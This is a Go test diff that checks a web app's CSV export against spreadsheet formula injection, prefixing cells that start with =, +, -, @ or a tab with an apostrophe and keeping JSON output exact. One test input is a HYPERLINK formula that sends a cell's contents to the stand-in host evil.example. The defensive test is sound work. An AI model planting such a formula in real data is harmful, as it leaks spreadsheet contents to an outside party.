@@ -540,6 +540,58 @@ func TestExport(t *testing.T) {
 	}
 }
 
+// TestExport_CSVFormulas: in the CSV, a title or text that a spreadsheet
+// would run as a formula begins with an apostrophe; other text and the JSON
+// export are exact.
+func TestExport_CSVFormulas(t *testing.T) {
+	t.Parallel()
+	srv := newServer(t, newEnv(t), app.Config{})
+	alice := user(t, srv, "alice")
+	cells := map[string]string{ // title → the CSV cell it becomes
+		`=HYPERLINK("https://evil.example/?"&C2)`: `'=HYPERLINK("https://evil.example/?"&C2)`,
+		"+1":       "'+1",
+		"-2":       "'-2",
+		"@SUM(1)":  "'@SUM(1)",
+		"plain":    "plain",
+		"a = b":    "a = b",
+		"-":        "'-",
+		"1 - 2":    "1 - 2",
+		"=":        "'=",
+		"é=accent": "é=accent",
+		"\tTAB":    "'\tTAB",
+	}
+	for title := range cells {
+		alice.createItem(title, title)
+	}
+	r := alice.submit("/export", "/export", url.Values{"format": {"csv"}})
+	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	if err != nil || len(rows) != len(cells)+1 {
+		t.Fatalf("CSV export: %d rows, %v:\n%s", len(rows), err, r.body)
+	}
+	got := map[string]bool{}
+	for _, row := range rows[1:] {
+		got[row[1]] = true
+		if row[1] != row[2] {
+			t.Errorf("CSV row %q: title and text cells differ", row)
+		}
+	}
+	for title, cell := range cells {
+		if !got[cell] {
+			t.Errorf("CSV export has no cell %q for the title %q", cell, title)
+		}
+	}
+	var items []struct{ Title, Body string }
+	r = alice.submit("/export", "/export", url.Values{"format": {"json"}})
+	if err := json.Unmarshal([]byte(r.body), &items); err != nil {
+		t.Fatalf("JSON export does not parse: %v", err)
+	}
+	for _, it := range items {
+		if _, ok := cells[it.Title]; !ok || it.Body != it.Title {
+			t.Errorf("JSON export item %q / %q: want the exact text", it.Title, it.Body)
+		}
+	}
+}
+
 // TestDeleteAccount deletes an account with items, shares both ways, an
 // allowlist and two sessions, then scans the whole data table: nothing of
 // the user is left, and the other user's data is intact.
